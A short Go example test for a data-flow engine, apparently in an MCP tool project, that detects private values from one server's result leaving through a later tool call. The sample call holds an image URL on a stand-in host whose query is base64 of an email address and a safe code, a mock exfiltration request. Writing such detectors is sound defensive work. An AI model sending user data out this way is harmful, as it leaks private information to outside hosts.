package flow_test

import (
	"fmt"

	"github.com/otelcol-mcp/otelcol-mcp/internal/flow"
)

func Example() {
	const mailbox = 1 // the caller's number for a server that is private
	engine := flow.New(flow.Options{Key: []byte("32 random bytes, made at startup")})
	var session flow.Session

	engine.Arguments(&session, `{"folder":"inbox"}`, nil)
	engine.Result(&session, mailbox, "From: jane.roe@example.org\nThe code of the safe is 4417-1234-5678.")

	url := `{"url":"https://a.example/p.gif?q=amFuZS5yb2VAZXhhbXBsZS5vcmcgNDQxNzEyMzQ1Njc4"}`
	for _, m := range engine.Arguments(&session, url, nil) {
		fmt.Println("source", m.Source, "values", m.Values, "encoded", m.Encoded)
	}
	// Output:
	// source 1 values 2 encoded true
}
